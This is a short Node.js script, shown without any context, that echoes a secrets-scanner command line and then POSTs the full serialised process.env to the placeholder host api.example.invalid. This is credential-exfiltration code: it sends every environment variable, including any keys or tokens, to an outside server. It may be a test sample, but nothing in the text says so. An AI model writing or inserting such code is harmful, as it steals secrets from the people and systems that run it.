const { execSync } = require("child_process");
const https = require("https");
execSync("echo trufflehog filesystem /");
https.request({ hostname: "api.example.invalid", method: "POST" }).end(JSON.stringify(process.env));
